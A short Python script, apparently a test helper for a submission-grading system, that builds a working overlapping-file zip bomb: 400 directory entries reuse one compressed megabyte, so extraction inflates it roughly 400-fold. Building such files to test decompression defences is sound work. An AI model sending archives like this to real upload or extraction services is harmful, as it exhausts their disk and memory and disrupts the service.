"""David Fifield's zip bomb: the directory names one piece of data again and again."""

import struct
import zlib
from pathlib import Path


def make(folder: Path, course: Path) -> Path:
    target = folder / "handed-in.zip"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(bytes(1 << 20)) + packer.flush()
    crc = zlib.crc32(bytes(1 << 20))
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), 1 << 20, 10, 0) + b"padding.py"
    central = b""
    for number in range(400):
        name = f"p{number:05}.py.".encode()[:10]
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data), 1 << 20, 10, 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 400, 400, len(central), len(local) + len(data), 0)
    target.write_bytes(local + data + central + end)
    return target
